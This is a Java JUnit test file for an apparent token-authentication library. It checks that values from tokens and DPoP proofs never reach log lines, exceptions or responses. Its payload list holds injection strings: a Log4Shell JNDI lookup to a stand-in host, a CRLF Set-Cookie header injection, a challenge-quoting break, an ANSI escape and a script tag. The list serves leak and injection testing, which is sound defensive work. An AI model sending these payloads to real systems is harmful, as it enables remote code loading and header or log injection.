package io.github.auth0guard.acceptance;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.github.auth0guard.AccessToken;
import io.github.auth0guard.Scopes;
import io.github.auth0guard.dpop.DpopMode;
import io.github.auth0guard.dpop.DpopNonces;
import io.github.auth0guard.dpop.DpopPolicy;
import io.github.auth0guard.error.AuthException;
import io.github.auth0guard.http.Refusal;
import io.github.auth0guard.http.RequestAuthenticator;
import io.github.auth0guard.test.TestDpopKey;
import io.github.auth0guard.test.TestDpopProof;
import io.github.auth0guard.test.TestIssuer;
import io.github.auth0guard.test.TestToken;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Nothing that a token says reaches a log line, an exception or an answer (RFC 6750 §5.3, CWE-117, CWE-113). */
class LeakTest {
    private static final String CANARY = "canary7f3a";
    private static final List<String> PAYLOADS = List.of(
            CANARY,
            "\r\nSet-Cookie: " + CANARY + "=1\r\n\r\n",
            "${jndi:ldap://" + CANARY + ".example/a}", // CVE-2021-44228
            "\", error=\"" + CANARY,
            "\u001b[2J" + CANARY,
            "<script>" + CANARY + "</script>");

    @RegisterExtension
    static final TestIssuer ISSUER = TestIssuer.start();

    private static final String URL = "https://api.example.com/";
    private static final TestDpopKey KEY = TestDpopKey.create();

    private final RequestAuthenticator authenticator = RequestAuthenticator.builder(ISSUER.offlineVerifier())
            .dpop(DpopPolicy.builder(DpopMode.ALLOWED)
                    .nonces(DpopNonces.random())
                    .build())
            .build();

    static Stream<Arguments> places() {
        Stream<Arguments> headers = Stream.of("alg", "kid", "typ", "cty", "crit", "jku", "x5u", "x")
                .flatMap(name -> PAYLOADS.stream().map(payload -> Arguments.of("header", name, payload)));
        Stream<Arguments> claims = Stream.of("iss", "aud", "sub", "scope", "azp", "jti", "exp", "cnf", "nonce", "x")
                .flatMap(name -> PAYLOADS.stream().map(payload -> Arguments.of("claim", name, payload)));
        return Stream.concat(headers, claims);
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("places")
    void whatATokenSaysIsNotRepeated(String part, String name, String payload) {
        TestToken token = part.equals("header")
                ? ISSUER.token().header(name, payload)
                : ISSUER.token().claim(name, payload);
        String good = token.sign();
        String expired = token.expiresIn(Duration.ofHours(-1)).sign();
        String spoiled = token.raw().spoil(signature -> new byte[signature.length]);
        for (String jwt : List.of(good, expired, spoiled, good + '.' + payload)) {
            assertThat(everythingThatShows(TestRequest.get(URL).bearer(jwt)))
                    .doesNotContain(CANARY, "jndi", "Set-Cookie", jwt);
        }
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("places")
    void norIsWhatStandsInPlaceOfOne(String part, String name, String payload) {
        TestRequest request = TestRequest.get(URL);
        for (String field : List.of(payload, "Bearer " + payload, "Bearer " + name + '.' + payload, payload + " x")) {
            assertThat(everythingThatShows(request.header("Authorization", field)))
                    .doesNotContain(CANARY, "jndi", "Set-Cookie");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"jti", "htm", "htu", "iat", "ath", "nonce", "x", "typ", "alg", "kid", "jwk"})
    void norWhatAProofSays(String name) {
        String token = ISSUER.token().boundTo(KEY).sign();
        for (String payload : PAYLOADS) {
            TestDpopProof proof = KEY.proof("GET", URL).forToken(token);
            for (TestDpopProof changed : List.of(proof.claim(name, payload), proof.header(name, payload))) {
                String text = changed.sign();
                assertThat(everythingThatShows(TestRequest.get(URL).dpop(token, text)))
                        .doesNotContain(CANARY, "jndi", "Set-Cookie", text, token);
            }
        }
    }

    /** Log, exception with all causes, challenges and body. A token that is good is refused for want of a scope. */
    private String everythingThatShows(TestRequest request) {
        StringWriter shown = new StringWriter();
        String log = StandardError.during(() -> {
            AuthException refusal = catchThrowableOfType(AuthException.class, () -> {
                AccessToken token = authenticator.authenticate(request);
                shown.append(token.toString());
                Scopes.allOf("admin").check(token);
            });
            Refusal answer = authenticator.refuse(refusal, request);
            refusal.printStackTrace(new PrintWriter(shown, true));
            shown.append(answer.headers().toString()).append(answer.body());
        });
        return shown + log;
    }
}
